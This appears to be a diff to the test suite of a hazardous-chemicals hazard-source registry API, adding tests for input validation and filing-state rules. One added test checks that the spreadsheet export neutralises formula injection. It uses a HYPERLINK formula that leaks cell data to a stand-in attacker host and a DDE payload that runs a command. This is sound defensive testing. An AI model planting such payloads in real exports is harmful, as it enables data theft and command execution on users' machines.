@@ -73,12 +73,14 @@ def test_every_bad_substance_is_named_at_once(app, client, world):
                 {"name": "硝化纤维素", "quantity_t": 1},
                 {"category": "W99", "quantity_t": 1},
                 {"name": "甲醇", "quantity_t": -3},
+                {"name": "甲醇"},  # no quantity at all
+                {"name": "甲醇", "quantity_t": "lots"},
             ],
         },
     )
     assert r.status_code == 422
     errors = r.json["errors"]
-    assert {key.split(".")[1] for key in errors} == {"0", "1", "2", "3"}
+    assert {key.split(".")[1] for key in errors} == {"0", "1", "2", "3", "4", "5"}
     assert "candidates" in " ".join(errors["substances.1.name"])
 
 
@@ -243,7 +245,7 @@ def test_regulator_filters_and_export(app, client, world):
     by_sector = client.get(
         "/api/v1/hazard-sources?sector=hazardous_chemicals&limit=200", headers=reg
     ).json["items"]
-    assert {s["enterprise_id"] for s in by_sector} <= {
+    assert by_sector and {s["enterprise_id"] for s in by_sector} <= {
         str(world.a.enterprise1),
         str(world.a.enterprise2),
     }
@@ -308,3 +310,50 @@ def test_sql_filter_agrees_with_the_rule(app, status):
             if reevaluation_status(last, change, today, 90) == status
         }
         assert picked == expected
+
+
+def test_export_never_carries_a_live_formula(app, client, world):
+    h = auth(app, world.a.usernames["enterprise_admin"])
+    trap = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
+    assert register(client, h, name=trap, location="+cmd|' /C calc'!A0").status_code == 201
+    reg = auth(app, world.a.usernames["regulator"])
+    data = client.get("/api/v1/hazard-sources/export.xlsx", headers=reg).data
+    sheet = load_workbook(io.BytesIO(data)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == trap]
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+
+
+def test_population_must_be_a_whole_number(app, client, world):
+    h = auth(app, world.a.usernames["inspector"])
+    r = client.post(
+        "/api/v1/hazard-sources/assess",
+        headers=h,
+        json={
+            "unit_kind": "storage",
+            "exposed_population": 29.9,
+            "substances": [{"name": "甲醇", "quantity_t": 1}],
+        },
+    )
+    assert r.status_code == 422 and "exposed_population" in r.json["errors"]
+
+
+def test_changes_withdraw_a_submission_and_retired_units_are_frozen(app, client, world):
+    h = auth(app, world.a.usernames["enterprise_admin"])
+    evaluated = (service.today() - dt.timedelta(days=3)).isoformat()
+    source = register(client, h, last_evaluated_on=evaluated).json
+    path = f"/api/v1/hazard-sources/{source['id']}"
+    submitted = client.post(f"{path}/submit", headers=h)
+    changed = client.patch(
+        path,
+        headers={**h, "If-Match": submitted.headers["ETag"]},
+        json={"substances": [{"name": "氯气", "quantity_t": 999}]},
+    )
+    assert changed.status_code == 200 and changed.json["filing_status"] == "draft"
+    retired = client.post(f"{path}/deactivate", headers=h)
+    assert retired.status_code == 200
+    again = client.patch(
+        path, headers={**h, "If-Match": retired.headers["ETag"]}, json={"exposed_population": 1}
+    )
+    assert again.status_code == 409
+    assert client.post(f"{path}/submit", headers=h).status_code == 409
